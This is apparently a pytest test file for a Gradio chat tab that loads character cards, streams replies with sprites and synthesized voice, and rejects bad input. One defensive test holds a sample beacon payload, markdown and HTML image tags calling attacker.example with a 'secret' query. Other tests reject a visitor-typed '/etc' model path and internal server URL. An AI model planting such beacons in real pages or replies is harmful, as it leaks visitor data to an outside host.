"""Chat tab handlers, called directly: presets, import/edit/export, streamed replies with face and voice, failures."""

from __future__ import annotations

import json

import gradio as gr
import numpy as np
import pytest
from PIL import Image

from pipelines.character.bundle import CharacterBundle
from pipelines.character.card import load_character
from pipelines.chat.engines import Engine
from pipelines.labels import LABELS
from studio import runtime
from studio.reply_audio import PUMP_SAMPLES, PUMP_STEPS, WARMUP_S
from studio.tabs import chat as chat_tab
from studio.tabs.chat import FORM, Loaded
from studio.visitor import Visitor
from tests.chat_doubles import ChatServer, tiny_backend
from tests.conftest import EXAMPLES


def no_progress(*args, **kwargs):
    pass


@pytest.fixture
def ada():
    return Loaded(*chat_tab.load_preset("Ada", "Lin"))


def test_presets_load_with_form_greeting_and_face(ada):
    character, sprites, form = ada.character, ada.sprites, [getattr(ada, name) for name in FORM]
    chatbot, history, portrait, emotion = ada.chatbot, ada.history, ada.portrait, ada.emotion
    assert character.name == "Ada" and sprites == {}
    assert form == ["Ada", character.description, character.personality, character.scenario, character.first_mes,
                    character.system_prompt, "espeak", "f3", 55, 165]
    assert chatbot == history == [{"role": "assistant", "content": history[0]["content"]}]
    assert "Welcome to the City Museum, Lin!" in history[0]["content"]
    assert isinstance(portrait, Image.Image) and "neutral" in emotion
    assert set(chat_tab.preset_names()) >= {"Ada", "Sam", "Mika Starlight", "李老师"}


def test_edit_then_export_json_and_png_round_trip(ada, tmp_path):
    character, sprites = ada.character, ada.sprites
    form = [getattr(ada, name) for name in FORM]
    form[0], form[4], form[8] = "Ada Lovelace", "Hello {{user}}, I am {{char}}.", 70
    edited = Loaded(*chat_tab.apply_edits(character, sprites, *form, "Lin"))
    card = edited.character
    assert card.name == "Ada Lovelace" and card.studio["voice"]["pitch"] == 70
    assert card.character_book == character.character_book  # fields the form does not show are kept
    assert edited.history == [{"role": "assistant", "content": "Hello Lin, I am Ada Lovelace."}]
    for kind in ("json", "png"):
        path = chat_tab.export_card(card, sprites, kind)
        assert path.endswith(f"Ada_Lovelace.{kind}") and load_character(path) == card


def test_bad_edits_and_files_raise_readable_errors(ada, tmp_path):
    form = [getattr(ada, name) for name in FORM]
    form[0] = ""
    with pytest.raises(gr.Error, match="no name"):
        chat_tab.apply_edits(ada.character, {}, *form)
    form = [getattr(ada, name) for name in FORM]
    form[9] = 1000
    with pytest.raises(gr.Error, match="rate must be"):
        chat_tab.apply_edits(ada.character, {}, *form)
    bad = tmp_path / "bad.png"
    bad.write_bytes(b"\x89PNG\r\n\x1a\nrubbish")
    with pytest.raises(gr.Error, match="truncated"):
        chat_tab.import_card(str(bad))
    with pytest.raises(gr.Error, match="Choose a card file"):
        chat_tab.import_card(None)
    with pytest.raises(gr.Error, match="Pick a preset"):
        chat_tab.export_card(None, {}, "json")


def test_import_a_bundle_uses_its_sprites_for_the_portrait(tmp_path):
    character = load_character(EXAMPLES / "characters" / "vtuber_streamer.json")
    red, grey = np.zeros((8, 8, 3), np.uint8), np.full((8, 8, 3), 128, np.uint8)
    red[..., 0] = 255
    _, archive = CharacterBundle(character, expressions={"joy": red, "neutral": grey}).save(tmp_path)
    loaded = Loaded(*chat_tab.import_card(str(archive)))
    assert loaded.character.name == "Mika Starlight" and set(loaded.sprites) == {"joy", "neutral"}
    assert loaded.portrait.getpixel((0, 0)) == (128, 128, 128)  # a new chat starts neutral
    assert chat_tab.portrait_for(loaded.character, loaded.sprites, "joy").getpixel((0, 0)) == (255, 0, 0)
    assert chat_tab.portrait_for(loaded.character, loaded.sprites, "anger").getpixel((0, 0)) == (128, 128, 128)


def _respond(message, character, sprites, history, **settings):
    return list(chat_tab.respond(message, character, sprites, history, progress=no_progress, **settings))


@pytest.fixture
def operator_engines(monkeypatch):
    """Set the engines the operator configured (app.py --chat-config) for one test."""

    def configure(*engines, free_entry=False):
        monkeypatch.setattr(runtime.SETTINGS, "chat_engines", tuple(engines))
        monkeypatch.setattr(runtime.SETTINGS, "chat_free_entry", free_entry)

    return configure


def _server_engine(server, name="test server"):
    return Engine(name, "openai", "m", server.base_url, languages=("en", "zh"))


def test_reply_streams_from_the_shared_local_model_and_is_spoken(ada, monkeypatch, operator_engines):
    operator_engines(Engine("tiny", "transformers", "tiny"))
    monkeypatch.setattr(runtime, "_objects", {"chat-engine:transformers:tiny": tiny_backend()})  # built once, shared
    character, history = ada.character, ada.history
    steps = _respond("Hello Ada!", character, {}, history, max_new_tokens=24, temperature=0.7, stream_audio=False)
    assert len(steps) >= 4
    assert steps[0][0][-1] == {"role": "user", "content": "Hello Ada!"} and steps[0][2] == ""  # shown at once
    chatbot, new_history, box, portrait, emotion, audio = steps[-1]
    assert new_history[:-2] == history and new_history[-1]["role"] == "assistant" and chatbot == new_history
    assert any(label in emotion for label in LABELS)
    rate, samples = audio
    assert rate == 22050 and samples.dtype == np.int16 and len(samples) > rate // 4
    assert history == ada.history  # the caller's list is not changed in place


def test_a_pump_chunk_opens_a_stream_without_ffprobe(tmp_path, monkeypatch):
    """Gradio decodes a chunk with samples itself; an empty one went to pydub + ffprobe and failed as a first chunk."""
    from gradio import processing_utils
    from gradio.audio_stream_encoder import decode_to_pcm

    from studio.reply_audio import ReplyAudio

    monkeypatch.setenv("PATH", str(tmp_path))  # no ffmpeg, no ffprobe: only the standard library may decode it
    audio = ReplyAudio(22050)
    audio.step([])  # nothing owed yet
    audio.owed = 1
    rate, pump = audio.step([])
    processing_utils.audio_to_file(rate, pump, str(tmp_path / "pump.wav"), format="wav")
    assert decode_to_pcm((tmp_path / "pump.wav").read_bytes())[:2] == (22050, 1)


def test_with_streamed_audio_each_sentence_is_heard_before_the_reply_ends(free_port, operator_engines):
    character = load_character(EXAMPLES / "characters" / "museum_guide.json")
    reply = "The clock room is upstairs. It has a pendulum. Shall we go?"
    with ChatServer(free_port, reply=reply) as server:
        operator_engines(_server_engine(server))
        steps = _respond("Where is the clock?", character, {}, [], engine="test server", stream_audio=True)
    rate, opening = steps[0][5]  # the stream opens with a short silence, so the encoder is up for sentence one
    assert rate == 22050 and len(opening) == int(WARMUP_S * rate) and not opening.any()
    audio = [(i, step[5]) for i, step in enumerate(steps[1:], 1) if step[5] is not None]
    clips = [(i, value) for i, value in audio if len(value[1]) > PUMP_SAMPLES]
    assert len(clips) == 3  # then one clip per sentence,
    pumps = [i for i, value in audio if len(value[1]) == PUMP_SAMPLES]  # and silent samples that flush the encoder
    assert pumps and all(any(c < i <= c + PUMP_STEPS for c, _ in clips) for i in pumps)
    assert not any(steps[i][5][1].any() for i in pumps)
    assert clips[0][0] < len(steps) - 1  # the first sentence is out while the reply still streams
    partial = steps[clips[0][0]][0][-1]["content"]
    assert partial.startswith("The clock room is upstairs.") and partial != reply
    for _, (rate, samples) in clips:
        assert rate == 22050 and 0.3 < len(samples) / rate < 4


def test_reply_from_a_server_picks_the_joy_sprite(free_port, operator_engines):
    character = load_character(EXAMPLES / "characters" / "vtuber_streamer.json")
    joy = np.zeros((8, 8, 3), np.uint8)
    joy[..., 1] = 255
    with ChatServer(free_port, reply="Yay, that's wonderful! Thank you so much!") as server:
        operator_engines(_server_engine(server))
        steps = _respond("I brought you a gift!", character, {"joy": joy}, [], engine="test server", speak=False)
    chatbot, history, _, portrait, emotion, audio = steps[-1]
    assert history[-1]["content"] == "Yay, that's wonderful! Thank you so much!"
    assert "joy" in emotion and portrait.getpixel((0, 0)) == (0, 255, 0) and audio is None
    assert json.dumps(server.requests[0]["body"]["messages"]).count("Mika Starlight") >= 1


def test_a_server_that_is_down_puts_the_conversation_and_message_back(ada, free_port, operator_engines):
    character, history = ada.character, ada.history
    operator_engines(Engine("down", "openai", "m", f"http://127.0.0.1:{free_port}/v1"))
    stream = chat_tab.respond("Are you there?", character, {}, history, engine="down", progress=no_progress)
    seen = []
    with pytest.raises(gr.Error, match="Could not reach the chat server"):
        for step in stream:
            seen.append(step)
    chatbot, kept, box = seen[-1][:3]
    assert chatbot == kept == history and box == "Are you there?"


@pytest.mark.parametrize(
    ("message", "character", "settings", "error"),
    [
        ("", "ada", {}, "empty"),
        ("x" * 100_000, "ada", {}, "limit is 4,000"),
        ("hi", None, {}, "Pick a preset"),
        ("hi", "ada", {"engine": "nonexistent"}, "no chat engine called"),
        ("hi", "ada", {"local_model": "/etc"}, "chosen by whoever runs this studio"),
    ],
)
def test_bad_turns_are_refused_before_anything_changes(ada, monkeypatch, message, character, settings, error):
    monkeypatch.setattr(runtime, "_objects", {})
    with pytest.raises(gr.Error, match=error):
        _respond(message, ada.character if character else None, {}, ada.history, **settings)
    assert runtime._objects == {}  # refused before any model was loaded


def test_the_tab_renders_without_loading_a_model(monkeypatch):
    monkeypatch.setattr(runtime, "_objects", {})
    with gr.Blocks():
        chat_tab.render(Visitor.create(chat_tab.first_character()))
    assert runtime._objects == {}
    for lang in ("en", "zh"):
        assert all(key.startswith("chat.") for key in chat_tab.TEXT[lang])
    assert chat_tab.TEXT["en"].keys() == chat_tab.TEXT["zh"].keys()


def test_a_visitor_cannot_point_the_server_at_a_url_or_a_model_path(ada, free_port, operator_engines):
    """Before: any URL a visitor typed was fetched by the server, and any model id or folder was loaded and kept."""
    operator_engines(Engine("tiny", "transformers", "tiny"))
    with ChatServer(free_port) as internal:
        for typed in ({"base_url": internal.base_url, "model": "m"}, {"local_model": "/etc"},
                      {"local_model": "Qwen/Qwen2.5-72B-Instruct"}):
            with pytest.raises(gr.Error, match="chosen by whoever runs this studio"):
                _respond("hi", ada.character, {}, ada.history, **typed)
    assert internal.requests == []


def test_free_entry_lets_a_single_user_run_type_a_server(ada, free_port, operator_engines):
    operator_engines(Engine("tiny", "transformers", "tiny"), free_entry=True)
    with ChatServer(free_port, reply="Typed server answers.") as server:
        steps = _respond("hi", ada.character, {}, ada.history, base_url=server.base_url, model="m", speak=False)
    assert steps[-1][1][-1]["content"] == "Typed server answers."


def test_a_message_in_a_language_the_engine_cannot_write_says_so_and_how_to_fix_it(ada, free_port, operator_engines):
    with ChatServer(free_port, reply="乱码") as server:
        operator_engines(Engine("english only", "openai", "m", server.base_url, languages=("en",)))
        with pytest.raises(gr.Error, match="cannot write Chinese.*ollama pull qwen2.5"):
            _respond("你好，请介绍一下你自己", ada.character, {}, ada.history, engine="english only", speak=False)
    assert server.requests == []  # nothing was generated


BEACON = "![logo](https://attacker.example/pixel.png?c=secret) and <img src=https://attacker.example/x.gif>"


def test_the_chat_window_never_loads_remote_images_from_a_card_or_a_reply(free_port, operator_engines):
    """Before: markdown images in a greeting or a reply made every visitor's browser fetch them (a beacon)."""
    character = load_character(EXAMPLES / "characters" / "museum_guide.json")
    character.first_mes = f"Welcome! {BEACON}"
    chatbot, history, _, _ = chat_tab.restart(character, {})
    assert "attacker.example" not in json.dumps(chatbot) and "logo" in chatbot[0]["content"]
    assert "attacker.example" in history[0]["content"]  # the model still sees what the card says
    with ChatServer(free_port, reply=f"Look: {BEACON}") as server:
        operator_engines(_server_engine(server))
        steps = _respond("hi", character, {}, history, engine="test server", speak=False)
    assert all("attacker.example" not in json.dumps(step[0]) for step in steps)



def test_the_chinese_preset_on_the_embedded_english_model_gets_the_note_before_any_model_loads(monkeypatch, operator_engines):
    operator_engines(Engine("SmolLM2-135M (transformers)", "transformers"))
    monkeypatch.setattr(runtime, "_objects", {})
    teacher = load_character(EXAMPLES / "characters" / "chinese_teacher.json")
    with pytest.raises(gr.Error, match="cannot write Chinese"):
        _respond("老师好！我想学怎么点菜。", teacher, {}, [], speak=False)
    assert runtime._objects == {}
